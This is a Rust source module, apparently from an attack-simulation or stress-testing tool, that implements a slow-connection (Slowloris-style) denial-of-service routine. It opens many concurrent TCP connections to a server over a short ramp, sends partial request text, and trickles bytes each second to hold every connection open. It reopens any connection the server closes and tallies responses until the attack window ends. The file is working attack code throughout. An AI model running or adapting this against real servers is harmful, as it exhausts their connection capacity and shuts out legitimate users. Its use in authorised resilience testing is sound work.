//! Connections that are held for as long as the server permits.

use std::sync::Arc;
use std::time::Duration;

use rand::RngExt as _;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use super::connection::{open, status};
use super::scene::AttackContext;

/// Time over which the connections are opened.
const RAMP: Duration = Duration::from_secs(3);

/// Pause between the end of a connection and its replacement.
const PAUSE: Duration = Duration::from_secs(5);

/// Pause between two chunks.
const SEND_INTERVAL: Duration = Duration::from_secs(1);

/// Slow connections of one kind.
#[derive(Debug, Clone)]
pub struct SlowConnections {
    /// Prefix of the names of counts.
    pub name: &'static str,
    /// Number of concurrent connections.
    pub connections: usize,
    /// Text that is sent at once.
    pub opening: String,
    /// Bytes that are then sent repeatedly, if any.
    pub chunk: &'static [u8],
}

impl SlowConnections {
    /// Holds the connections until the attack is over; replaces those that the server closes.
    pub async fn run(self, scene: Arc<AttackContext>) {
        let mut tasks = JoinSet::new();
        let connections = self.connections;
        let slow = Arc::new(self);
        for _ in 0..connections {
            let (slow, scene) = (Arc::clone(&slow), Arc::clone(&scene));
            tasks.spawn(async move {
                let start = RAMP.mul_f64(rand::rng().random_range(0.0..1.0));
                tokio::time::sleep(start).await;
                loop {
                    let held = tokio::time::timeout_at(scene.until.into(), slow.hold_one(&scene)).await;
                    if held.is_err() {
                        return slow.count(&scene, "open at the end");
                    }
                    tokio::time::sleep(PAUSE).await;
                    if scene.is_over() {
                        return;
                    }
                }
            });
        }
        tasks.join_all().await;
    }

    /// Counts an event under the name of this kind of connections.
    fn count(&self, scene: &AttackContext, what: &str) {
        scene.count(&format!("{} {what}", self.name));
    }

    /// Opens a connection and holds it until the server closes it.
    async fn hold_one(&self, scene: &AttackContext) {
        let Ok(mut stream) = open(scene).await else { return self.count(scene, "not accepted") };
        if stream.write_all(self.opening.as_bytes()).await.is_err() {
            return self.count(scene, "closed");
        }
        self.trickle(scene, &mut stream).await;
        self.count(scene, "closed");
    }

    /// Sends chunks until there is a response, then waits for the end of the connection.
    async fn trickle(&self, scene: &AttackContext, stream: &mut TcpStream) {
        let (mut reader, mut writer) = stream.split();
        let mut buffer = [0; 4096];
        let mut responded = false;
        loop {
            tokio::select! {
                read = reader.read(&mut buffer) => match read {
                    Ok(0) | Err(_) => return,
                    Ok(bytes) => if let Some(status) = status(buffer.get(..bytes).unwrap_or_default()) {
                        self.count(scene, &status);
                        responded = true;
                    }
                },
                () = tokio::time::sleep(SEND_INTERVAL), if !responded && !self.chunk.is_empty() => {
                    if writer.write_all(self.chunk).await.is_err() {
                        // Reads what the server sent before it closed the connection.
                        let read = reader.read(&mut buffer).await.unwrap_or(0);
                        if let Some(status) = status(buffer.get(..read).unwrap_or_default()) {
                            self.count(scene, &status);
                        }
                        return;
                    }
                }
            }
        }
    }
}

/// Runs several kinds at the same time.
pub async fn run_all(scene: &Arc<AttackContext>, kinds: Vec<SlowConnections>) -> anyhow::Result<()> {
    let mut tasks = JoinSet::new();
    for kind in kinds {
        tasks.spawn(kind.run(Arc::clone(scene)));
    }
    tasks.join_all().await;
    Ok(())
}
